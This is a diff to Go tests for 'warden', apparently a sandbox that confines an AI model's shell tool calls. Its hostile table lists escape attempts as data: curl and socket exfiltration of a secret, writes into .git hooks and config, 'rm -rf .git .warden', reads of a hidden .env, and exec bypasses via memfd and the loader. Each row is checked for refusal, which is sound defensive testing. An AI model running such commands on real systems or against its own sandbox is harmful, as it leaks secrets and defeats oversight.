@@ -241,21 +241,21 @@ func diffSnapshots(a, b map[string]string) []string {
 }
 
 // callShell runs the command through `warden call shell` and returns the
-// result envelope's text.
-func (w *reachWorld) callShell(t *testing.T, command string) string {
+// result envelope's text and everything warden printed.
+func (w *reachWorld) callShell(t *testing.T, command string) (result, all string) {
 	t.Helper()
 	args, _ := json.Marshal(map[string]any{"command": command, "timeout_ms": 20000})
 	_, out, errs := runWS(t, w.home, w.ws, "--policy", w.policy, "call", "shell", "--args", string(args))
 	if !strings.Contains(out, `"tool": "shell"`) {
 		t.Fatalf("no result envelope:\n%s\n%s", out, errs)
 	}
-	return out + errs
+	return out, out + errs
 }
 
 // runShell has a scripted model call shell with the command in `warden
-// run`, and returns what the model was told (the tool result) and the
-// run's output.
-func (w *reachWorld) runShell(t *testing.T, command string) string {
+// run`, and returns what the model was told (the tool result), and that
+// with the run's output.
+func (w *reachWorld) runShell(t *testing.T, command string) (result, all string) {
 	t.Helper()
 	args, _ := json.Marshal(map[string]any{"command": command, "timeout_ms": 20000})
 	srv := llmtest.New(t,
@@ -278,7 +278,62 @@ func (w *reachWorld) runShell(t *testing.T, command string) string {
 	if len(told) != 1 {
 		t.Fatalf("the model was told %d tool results\n%s\n%s", len(told), out, errs)
 	}
-	return told[0] + "\n" + out + errs
+	return told[0], told[0] + "\n" + out + errs
+}
+
+// reachResult is what a shell call's result says, through either front
+// end: the envelope of `warden call`, or the tool result the model is
+// told in `warden run` (which carries no sandbox level: the audit record
+// does).
+type reachResult struct {
+	Output  string `json:"output"`
+	Sandbox string `json:"sandbox"`
+	Error   *struct {
+		Code    string `json:"code"`
+		Message string `json:"message"`
+	} `json:"error"`
+}
+
+func parseReachResult(t *testing.T, text string) reachResult {
+	t.Helper()
+	var r reachResult
+	if err := json.Unmarshal([]byte(text), &r); err != nil {
+		t.Fatalf("the result is not JSON: %v\n%s", err, text)
+	}
+	return r
+}
+
+// reachRecord is the audit record of a call's result, as `warden audit
+// show` prints it.
+type reachRecord struct {
+	Seq   uint64 `json:"seq"`
+	Event struct {
+		Phase       string `json:"phase"`
+		Outcome     string `json:"outcome"`
+		Sandbox     string `json:"sandbox"`
+		Connections []struct {
+			Host, Verdict, Via, Reason string
+			Port                       int
+		} `json:"connections"`
+	} `json:"event"`
+}
+
+// shellRecord is the audit record of the last shell call's result: found
+// with `warden audit ls --tool shell`, read with `warden audit show`.
+func (w *reachWorld) shellRecord(t *testing.T) reachRecord {
+	t.Helper()
+	_, out, errs := runWS(t, w.home, w.ws, "--json", "audit", "ls", "--tool", "shell")
+	var recs []reachRecord
+	if err := json.Unmarshal([]byte(out), &recs); err != nil || len(recs) == 0 {
+		t.Fatalf("audit ls --tool shell: %v\n%s\n%s", err, out, errs)
+	}
+	last := recs[len(recs)-1]
+	_, out, errs = runWS(t, w.home, w.ws, "audit", "show", fmt.Sprint(last.Seq))
+	var rec reachRecord
+	if err := json.Unmarshal([]byte(out), &rec); err != nil || rec.Seq != last.Seq || rec.Event.Phase != "result" {
+		t.Fatalf("audit show %d: %v\n%s\n%s", last.Seq, err, out, errs)
+	}
+	return rec
 }
 
 // reachCase is one row of the hostile table.
@@ -294,6 +349,22 @@ type reachCase struct {
 	// needsNS: only the namespaces of level full hold it (sandbox check
 	// says which points do not hold at fallback).
 	needsNS bool
+	// expect: what the refusal looks like in the result's output (the
+	// kernel's error, the proxy's refusal), each of which must be there:
+	// the program started and was refused, rather than never started.
+	expect []string
+	// forbid: what must not be in the result's output (a socket opened,
+	// a query sent).
+	forbid []string
+	// gate: the row is about a refusal before any program starts: the
+	// result is a CAPABILITY_DENIED whose message holds gate, and the
+	// audit record names no sandbox level.
+	gate string
+	// hide: the policy keeps its hide: list where the run leaves it out.
+	hide bool
+	// refused: connections ("host:port") the call's audit record, read
+	// with `warden audit show`, must list with the verdict refused.
+	refused []string
 }
 
 func TestSandboxReachHostile(t *testing.T) {
@@ -302,7 +373,7 @@ func TestSandboxReachHostile(t *testing.T) {
 	}
 	needTools(t, "python3", "curl", "git")
 	l := newReachListeners(t)
-	l.run(t, l.cases(), []string{"call", "run"})
+	l.run(t, l.cases(), reachRun{level: sandbox.LevelFull, fronts: []string{"call", "run"}})
 }
 
 // TestSandboxReachFallback: where programs get no namespaces (simulated),
@@ -310,7 +381,10 @@ func TestSandboxReachHostile(t *testing.T) {
 // netlink sockets, no DNS, proxied connections checked per host, exec
 // grants held by Landlock. What needs the namespaces (a program ignoring
 // the proxy on a granted port, protected and hidden paths, the loader run
-// directly) is what sandbox check lists as not held there.
+// directly) is what sandbox check lists as not held there. The table runs
+// without the hide: list: at fallback a program whose grants reach a
+// hidden path is not started at all, and a row refused before its
+// program starts tests nothing.
 func TestSandboxReachFallback(t *testing.T) {
 	if s := sandbox.Detect(); s.ABI < 6 {
 		t.Skipf("Landlock ABI %d here: the fallback level needs 6", s.ABI)
@@ -324,7 +398,11 @@ func TestSandboxReachFallback(t *testing.T) {
 			held = append(held, c)
 		}
 	}
-	l.run(t, held, []string{"call"})
+	// With the hide: list, a program whose grants reach a hidden path is
+	// refused before it starts: there is no mount namespace to mask it in.
+	held = append(held, reachCase{name: "a hide: entry inside the grants refuses every program", grants: []string{"fs.read:**", "fs.write:**", "exec:cat"},
+		hide: true, command: "cat f.txt", forbid: []string{"ordinary"}, gate: "sandbox (level fallback) cannot hide a path inside a grant"})
+	l.run(t, held, reachRun{level: sandbox.LevelFallback, fronts: []string{"call"}, noHide: true})
 }
 
 // reachListeners are the listeners the hostile table's programs try to
@@ -383,69 +461,81 @@ for how in ("udp", "tcp", "system"):
 	cases := []reachCase{
 		// 1. Hosts, not ports.
 		{name: "TCP to an ungranted host on a granted port", grants: with("net:api.example.com:"+P, "exec:curl"), needsNS: true,
+			expect: []string{"warden proxy: connection to 127.0.0.1 refused", "curl: (7)"}, refused: []string{"127.0.0.1:" + P},
 			command: "curl -sS --max-time 5 http://127.0.0.1:" + P + "/leak?d=" + reachSecret + "; curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:" + P + "/direct?d=" + reachSecret},
 		{name: "HTTPS tunnel to an ungranted host on a granted port", grants: with("net:api.example.com:"+P, "exec:curl"),
+			expect: []string{"CONNECT tunnel failed, response 403"}, refused: []string{"127.0.0.1:" + P},
 			command: "curl -sS --max-time 5 https://127.0.0.1:" + P + "/leak?d=" + reachSecret},
 		{name: "loopback without an IP grant", grants: with("net:*", "exec:curl"),
+			expect: []string{"warden proxy: connection to 127.0.0.1 refused: the grants do not allow net:127.0.0.1:" + P}, refused: []string{"127.0.0.1:" + P},
 			command: "curl -sS --max-time 5 http://127.0.0.1:" + P + "/?d=" + reachSecret + "; curl -sS --max-time 5 http://[::ffff:127.0.0.1]:" + P + "/?d=" + reachSecret},
 		{name: "a granted name that resolves to loopback", grants: with("net:localhost:"+P, "exec:curl"),
+			expect: []string{"warden proxy: connection to localhost port " + P + " refused: it resolved to 127.0.0.1 (loopback)"}, refused: []string{"localhost:" + P},
 			command: "curl -sS --max-time 5 http://localhost:" + P + "/?d=" + reachSecret},
 		{name: "a program ignoring the proxy variables", grants: with("net:api.example.com:"+P, "exec:python3", "exec:env"), needsNS: true,
+			expect:  []string{"ConnectionRefusedError"},
 			command: "env -u http_proxy -u HTTP_PROXY python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", " + P + "), timeout=3); s.sendall(b\"" + reachSecret + "\")'"},
 		// 2. No side doors.
-		{name: "UDP to a local listener (IPv4)", grants: with("exec:python3"),
+		{name: "UDP to a local listener (IPv4)", grants: with("exec:python3"), expect: []string{"PermissionError: [Errno 13]"},
 			command: fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"%s", ("127.0.0.1", %d))'`, reachSecret, udp4.port)},
-		{name: "UDP to a local listener (IPv6)", grants: with("exec:python3", "net:*"),
+		{name: "UDP to a local listener (IPv6)", grants: with("exec:python3", "net:*"), expect: []string{"PermissionError: [Errno 13]"},
 			command: fmt.Sprintf(`python3 -c 'import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"%s", ("::1", %d))'`, reachSecret, udp6.port)},
 		{name: "raw and netlink sockets", grants: with("exec:python3"),
+			expect: []string{"refused AF_INET 13", "refused AF_PACKET 13", "refused AF_NETLINK 13"}, forbid: []string{"opened"},
 			command: `python3 -c 'import socket
 for f, t, p in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0)):
     try:
-        socket.socket(f, t, p); print("opened", f)
+        socket.socket(f, t, p); print("opened", f.name)
     except OSError as e:
-        print("refused", f, e)
-' | grep -v opened`},
-		{name: "a DNS lookup of an ungranted name", grants: with("exec:python3", "net:api.example.com:443"), command: dnsPy},
+        print("refused", f.name, e.errno)
+'`},
+		{name: "a DNS lookup of an ungranted name", grants: with("exec:python3", "net:api.example.com:443"), command: dnsPy,
+			expect: []string{"udp refused:", "tcp refused:", "system refused:"}, forbid: []string{"sent"}},
 		// 3. Protected paths.
-		{name: "cp into .git/hooks", grants: with("exec:cp"), command: "cp f.txt .git/hooks/pre-commit"},
-		{name: "tee into .git/config", grants: with("exec:tee"), command: "echo '[core] fsmonitor = evil' | tee -a .git/config"},
-		{name: "mv into .warden", grants: with("exec:mv"), command: "mv f.txt .warden/policy.yaml"},
-		{name: "sh -c into .git and .warden", grants: with("exec:sh"), command: "sh -c 'echo x > .git/hooks/post-checkout; echo y >> .warden/policy.yaml; cd .git && echo z > config'"},
-		{name: "python3 -c into .git and .warden", grants: with("exec:python3"),
+		{name: "cp into .git/hooks", expect: []string{"Read-only file system"}, grants: with("exec:cp"), command: "cp f.txt .git/hooks/pre-commit"},
+		{name: "tee into .git/config", expect: []string{"Read-only file system"}, grants: with("exec:tee"), command: "echo '[core] fsmonitor = evil' | tee -a .git/config"},
+		{name: "mv into .warden", expect: []string{"Read-only file system"}, grants: with("exec:mv"), command: "mv f.txt .warden/policy.yaml"},
+		{name: "sh -c into .git and .warden", expect: []string{"cannot create .git/hooks/post-checkout: Read-only file system", "cannot create .warden/policy.yaml: Read-only file system"}, grants: with("exec:sh"), command: "sh -c 'echo x > .git/hooks/post-checkout; echo y >> .warden/policy.yaml; cd .git && echo z > config'"},
+		{name: "python3 -c into .git and .warden", expect: []string{"[Errno 30] Read-only file system"}, grants: with("exec:python3"),
 			command: `python3 -c 'open(".git/config", "a").write("x"); open(".warden/policy.yaml", "w").write("y")'`},
-		{name: "cd .git, then write", grants: with("exec:cp"), command: "cd .git && cp ../f.txt hooks/pre-push"},
-		{name: "renaming .git away and recreating it", grants: with("exec:mv", "exec:mkdir", "exec:cp", "exec:python3"),
+		{name: "cd .git, then write", expect: []string{"Read-only file system"}, grants: with("exec:cp"), command: "cd .git && cp ../f.txt hooks/pre-push"},
+		{name: "renaming .git away and recreating it", expect: []string{"Device or resource busy", "Read-only file system"}, grants: with("exec:mv", "exec:mkdir", "exec:cp", "exec:python3"),
 			command: "mv .git g2; python3 -c 'import os; os.rename(\".git\", \"g3\")'; mkdir -p .git/hooks; cp f.txt .git/hooks/pre-commit; mv .warden w2"},
-		{name: "removing .git", grants: with("exec:rm"), command: "rm -rf .git .warden"},
-		{name: "a worktree's pointer file and its gitdir", worktree: true, grants: with("exec:sh", "exec:cp", "fs.write:MAIN/**", "fs.read:MAIN/**"),
+		{name: "removing .git", expect: []string{"Read-only file system"}, grants: with("exec:rm"), command: "rm -rf .git .warden"},
+		{name: "a worktree's pointer file and its gitdir", expect: []string{"Read-only file system"}, worktree: true, grants: with("exec:sh", "exec:cp", "fs.write:MAIN/**", "fs.read:MAIN/**"),
 			command: "sh -c 'echo gitdir: /tmp > .git'; cp f.txt MAIN/.git/worktrees/wt/HEAD; cp f.txt MAIN/.git/hooks/pre-commit; sh -c 'echo x >> MAIN/.git/config'"},
-		{name: "moving a protected file's directory away and putting another in its place", grants: with("exec:mv", "exec:mkdir", "exec:cp"),
+		{name: "moving a protected file's directory away and putting another in its place", expect: []string{"Device or resource busy", "Read-only file system"}, grants: with("exec:mv", "exec:mkdir", "exec:cp"),
 			command: "mv deploy d2; mkdir -p deploy; cp f.txt deploy/run.sh; cp f.txt deploy/run.sh"},
 		// 4. Hidden paths.
-		{name: "moving a hidden file's directory away", grants: with("exec:mv", "exec:cat", "exec:cp"),
+		{name: "moving a hidden file's directory away", expect: []string{"Device or resource busy", "config/secret.txt: Permission denied"}, grants: with("exec:mv", "exec:cat", "exec:cp"),
 			command: "mv config c2; cat c2/secret.txt; cp -r config c3; cat c3/secret.txt; cat config/secret.txt", creates: []string{"c3"}},
-		{name: "cat of a hidden .env", grants: with("exec:cat"), command: "cat .env"},
-		{name: "grep of a hidden .env", grants: with("exec:grep"), command: "grep launch .env; grep -r code ."},
-		{name: "cp of a hidden .env", grants: with("exec:cp", "exec:cat"), command: "cp .env /dev/stdout; cp .env leak.txt && cat leak.txt"},
-		{name: "sh reading a hidden .env", grants: with("exec:sh"), command: "sh -c 'while read l; do echo \"$l\"; done < .env'"},
+		{name: "cat of a hidden .env", expect: []string{"cat: .env: Permission denied"}, grants: with("exec:cat"), command: "cat .env"},
+		{name: "grep of a hidden .env", expect: []string{"grep: .env: Permission denied", "grep: ./.env: Permission denied"}, grants: with("exec:grep"), command: "grep launch .env; grep -r code ."},
+		{name: "cp of a hidden .env", expect: []string{"cp: cannot open '.env' for reading: Permission denied"}, grants: with("exec:cp", "exec:cat"), command: "cp .env /dev/stdout; cp .env leak.txt && cat leak.txt"},
+		{name: "sh reading a hidden .env", expect: []string{"cannot open .env: Permission denied"}, grants: with("exec:sh"), command: "sh -c 'while read l; do echo \"$l\"; done < .env'"},
 		// 5. Exec grants held by the kernel.
-		{name: "env starts touch", grants: with("exec:env"), command: "env touch MARK", marker: "MARK"},
-		{name: "xargs starts touch", grants: with("exec:xargs", "exec:echo"), command: "echo MARK | xargs touch", marker: "MARK"},
-		{name: "timeout starts touch", grants: with("exec:timeout"), command: "timeout 5 touch MARK", marker: "MARK"},
-		{name: "nice starts touch", grants: with("exec:nice"), command: "nice touch MARK", marker: "MARK"},
-		{name: "nohup starts touch", grants: with("exec:nohup"), command: "nohup touch MARK", marker: "MARK"},
-		{name: "setsid starts touch", grants: with("exec:setsid"), command: "setsid -w touch MARK", marker: "MARK"},
-		{name: "stdbuf starts touch", grants: with("exec:stdbuf"), command: "stdbuf -o0 touch MARK", marker: "MARK"},
-		{name: "awk system() starts touch", grants: with("exec:awk"), command: `awk 'BEGIN { system("touch MARK") }'`, marker: "MARK"},
-		{name: "sh -c starts touch", grants: with("exec:sh"), command: "sh -c 'touch MARK'", marker: "MARK"},
-		{name: "python3 os.system starts touch", grants: with("exec:python3"), command: `python3 -c 'import os; os.system("touch MARK")'`, marker: "MARK"},
-		{name: "python3 execv of touch", grants: with("exec:python3"), command: `python3 -c 'import os; os.execv("/usr/bin/touch", ["touch", "MARK"])'`, marker: "MARK"},
-		{name: "python3 executes a copy from memory (memfd)", grants: with("exec:python3"), marker: "MARK",
+		{name: "env starts touch", expect: []string{"Permission denied"}, grants: with("exec:env"), command: "env touch MARK", marker: "MARK"},
+		{name: "xargs starts touch", expect: []string{"Permission denied"}, grants: with("exec:xargs", "exec:echo"), command: "echo MARK | xargs touch", marker: "MARK"},
+		{name: "timeout starts touch", expect: []string{"Permission denied"}, grants: with("exec:timeout"), command: "timeout 5 touch MARK", marker: "MARK"},
+		{name: "nice starts touch", expect: []string{"Permission denied"}, grants: with("exec:nice"), command: "nice touch MARK", marker: "MARK"},
+		{name: "nohup starts touch", expect: []string{"Permission denied"}, grants: with("exec:nohup"), command: "nohup touch MARK", marker: "MARK"},
+		{name: "setsid starts touch", expect: []string{"Permission denied"}, grants: with("exec:setsid"), command: "setsid -w touch MARK", marker: "MARK"},
+		{name: "stdbuf starts touch", expect: []string{"Permission denied"}, grants: with("exec:stdbuf"), command: "stdbuf -o0 touch MARK", marker: "MARK"},
+		// No parentheses in a row's name: its workspace (and so the
+		// marker's path) is named after the subtest, and a command line
+		// with a "(" in it is a syntax error whatever the sandbox does.
+		// The marker is quoted where a shell reads it all the same.
+		{name: "awk system starts touch", expect: []string{"status 127"}, grants: with("exec:awk"), command: `awk 'BEGIN { print "status", system("touch \"MARK\"") }'`, marker: "MARK"},
+		{name: "sh -c starts touch", expect: []string{"Permission denied"}, grants: with("exec:sh"), command: `sh -c 'touch "MARK"'`, marker: "MARK"},
+		{name: "python3 os.system starts touch", expect: []string{"status 127"}, grants: with("exec:python3"),
+			command: `python3 -c 'import os; print("status", os.waitstatus_to_exitcode(os.system("touch \"MARK\"")))'`, marker: "MARK"},
+		{name: "python3 execv of touch", expect: []string{"PermissionError: [Errno 13]"}, grants: with("exec:python3"), command: `python3 -c 'import os; os.execv("/usr/bin/touch", ["touch", "MARK"])'`, marker: "MARK"},
+		{name: "python3 executes a copy from memory via memfd", expect: []string{"PermissionError: [Errno 13]"}, grants: with("exec:python3"), marker: "MARK",
 			command: `python3 -c 'import os
 fd = os.memfd_create("x")
 os.write(fd, open("/usr/bin/touch", "rb").read())
 os.execv("/proc/self/fd/%d" % fd, ["touch", "MARK"])'`},
-		{name: "the loader run directly", grants: with("exec:env", "exec:cp"), needsNS: true,
+		{name: "the loader run directly", expect: []string{"failed to map segment from shared object"}, grants: with("exec:env", "exec:cp"), needsNS: true,
 			command: "env /lib64/ld-linux-x86-64.so.2 /usr/bin/touch MARK; cp /usr/bin/touch t && env /lib64/ld-linux-x86-64.so.2 ./t MARK", marker: "MARK", creates: []string{"t"}},
 	}
 	for i, c := range cases {
@@ -457,12 +547,28 @@ os.execv("/proc/self/fd/%d" % fd, ["touch", "MARK"])'`},
 	return cases
 }
 
-// run runs each case through the given front ends ("call", "run").
-func (l *reachListeners) run(t *testing.T, cases []reachCase, fronts []string) {
+// reachRun is how a table runs.
+type reachRun struct {
+	// level is the sandbox level every row's programs must have run
+	// under: a row whose program was never started (refused by the gate,
+	// or by the tool before it started anything) proves nothing about
+	// the sandbox.
+	level  string
+	fronts []string // "call", "run"
+	// noHide leaves the policy's hide: list out. At fallback a program
+	// whose grants reach a hidden path is refused before it starts, and
+	// every row's grants (fs.read:**) reach .env.
+	noHide bool
+}
+
+// run runs each case through the front ends of r.
+func (l *reachListeners) run(t *testing.T, cases []reachCase, r reachRun) {
+	level := r.level
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
-			for _, front := range fronts {
+			for _, front := range r.fronts {
 				w := newReachWorld(t, tc.worktree)
+				w.noHide = r.noHide && !tc.hide
 				grants := make([]string, len(tc.grants))
 				for i, g := range tc.grants {
 					grants[i] = strings.ReplaceAll(g, "MAIN", w.main)
@@ -470,16 +576,21 @@ func (l *reachListeners) run(t *testing.T, cases []reachCase, fronts []string) {
 				w.writePolicy(t, grants)
 				cmd := strings.ReplaceAll(tc.command, "MAIN", w.main)
 				if tc.marker != "" {
-					cmd = strings.ReplaceAll(cmd, tc.marker, filepath.Join(w.ws, "marker"))
+					m := filepath.Join(w.ws, "marker")
+					if strings.ContainsAny(m, "()'\"`$\\;&|<>*?[] \t\n") {
+						t.Fatalf("the marker's path %q holds a character a shell reads: a command starting an ungranted program would fail whatever the sandbox does", m)
+					}
+					cmd = strings.ReplaceAll(cmd, tc.marker, m)
 				}
 				before := snapshot(t, w.ws, w.main)
 				c0 := l.counts()
-				var got string
+				var result, got string
 				if front == "call" {
-					got = w.callShell(t, cmd)
+					result, got = w.callShell(t, cmd)
 				} else {
-					got = w.runShell(t, cmd)
+					result, got = w.runShell(t, cmd)
 				}
+				res := parseReachResult(t, result)
 				time.Sleep(20 * time.Millisecond) // anything in flight lands
 				if c1 := l.counts(); c0 != c1 {
 					t.Errorf("%s: something arrived at a listener (tcp, udp4, udp6, dns/udp, dns/tcp: %v → %v)\n%s", front, c0, c1, got)
@@ -500,6 +611,45 @@ func (l *reachListeners) run(t *testing.T, cases []reachCase, fronts []string) {
 				if tc.marker != "" {
 					if _, err := os.Stat(filepath.Join(w.ws, "marker")); err == nil {
 						t.Errorf("%s: an ungranted program ran:\n%s", front, got)
+					}
+				}
+				// The program started, under the sandbox, and was refused
+				// by it: the result and the call's audit record carry the
+				// level, no gate or tool refusal, and the refusal itself.
+				rec := w.shellRecord(t)
+				switch {
+				case tc.gate != "":
+					if rec.Event.Outcome != "CAPABILITY_DENIED" || rec.Event.Sandbox != "" || res.Error == nil || !strings.Contains(res.Error.Message, tc.gate) {
+						t.Errorf("%s: want a CAPABILITY_DENIED saying %q before any program starts; the audit record says outcome %q, sandbox %q", front, tc.gate, rec.Event.Outcome, rec.Event.Sandbox)
+					}
+				default:
+					if rec.Event.Sandbox != level {
+						t.Errorf("%s: the call's audit record says its programs ran under sandbox %q, want %q (outcome %s): did a program start?", front, rec.Event.Sandbox, level, rec.Event.Outcome)
+					}
+					if front == "call" && res.Sandbox != level {
+						t.Errorf("%s: the result says sandbox %q, want %q", front, res.Sandbox, level)
+					}
+					if c := rec.Event.Outcome; c == "CAPABILITY_DENIED" || c == "POLICY_DENIED" {
+						t.Errorf("%s: refused (%s) before the sandbox was tried", front, c)
+					}
+				}
+				for _, want := range tc.refused {
+					found := false
+					for _, c := range rec.Event.Connections {
+						found = found || c.Verdict == "refused" && net.JoinHostPort(c.Host, fmt.Sprint(c.Port)) == want
+					}
+					if !found {
+						t.Errorf("%s: audit show %d lists no refused connection to %s: %+v", front, rec.Seq, want, rec.Event.Connections)
+					}
+				}
+				for _, e := range tc.expect {
+					if !strings.Contains(res.Output, e) {
+						t.Errorf("%s: the output does not show the refusal %q", front, e)
+					}
+				}
+				for _, f := range tc.forbid {
+					if strings.Contains(res.Output, f) {
+						t.Errorf("%s: the output says %q", front, f)
 					}
 				}
 				if t.Failed() {
@@ -564,13 +714,13 @@ func TestSandboxReachGranted(t *testing.T) {
 				// Without namespaces a path hidden inside a grant cannot be
 				// held: programs are refused rather than let read it.
 				w.writePolicy(t, grants)
-				if out := w.callShell(t, "cat f.txt"); !strings.Contains(out, "CAPABILITY_DENIED") || !strings.Contains(out, "cannot hide a path inside a grant") || strings.Contains(out, reachSecret) {
+				if _, out := w.callShell(t, "cat f.txt"); !strings.Contains(out, "CAPABILITY_DENIED") || !strings.Contains(out, "cannot hide a path inside a grant") || strings.Contains(out, reachSecret) {
 					t.Fatalf("a hidden path inside a grant at fallback: %s", out)
 				}
 				w.noHide = true
 			}
 			w.writePolicy(t, grants)
-			out := w.callShell(t, "curl -sS --max-time 10 "+srv.URL+"/file.txt && curl -sS --noproxy '*' --max-time 10 "+srv.URL+"/file.txt"+
+			_, out := w.callShell(t, "curl -sS --max-time 10 "+srv.URL+"/file.txt && curl -sS --noproxy '*' --max-time 10 "+srv.URL+"/file.txt"+
 				" && git clone -q "+srv.URL+"/repo.git cloned && cat cloned/hello.txt"+
 				" && echo junk1 | xargs rm && git status --short && git log --oneline && git diff --stat && sh -c 'echo new > new.txt'")
 			if !strings.Contains(out, `"success": true`) || strings.Count(out, "served file") < 2 || !strings.Contains(out, "hello from the server") ||
